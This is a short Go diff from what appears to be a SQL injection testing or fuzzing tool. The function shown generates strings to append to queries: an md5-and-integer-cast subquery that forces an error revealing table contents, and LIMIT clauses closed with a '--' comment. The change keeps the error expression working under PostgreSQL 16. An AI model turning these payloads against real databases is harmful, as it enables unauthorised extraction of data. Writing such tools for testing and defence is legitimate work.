@@ -47,7 +47,10 @@ func (a argument) columns() []*catalog.Column {
 func (a argument) afterExpression() []string {
 	var found []string
 	for _, t := range a.tables()[:min(injectedTables, len(a.tables()))] {
-		failing := fmt.Sprintf("(SELECT 'x' || md5(string_agg(v::text, '' ORDER BY v::text)) FROM %s v)::int", t.SQL())
+		// random() keeps it from being constant: since PostgreSQL 16, an aggregate does not evaluate a
+		// constant by which it is to order its rows.
+		failing := fmt.Sprintf("(SELECT 'x' || md5(string_agg(v::text, '' ORDER BY v::text)) FROM %s v)::int"+
+			" + (0 * random())::int", t.SQL())
 		ends := []string{", " + failing}
 		for _, parts := range []int{2, 3} {
 			ends = append(ends, fmt.Sprintf(" LIMIT (SELECT count(*) %% %d FROM %s) --", parts, t.SQL()))
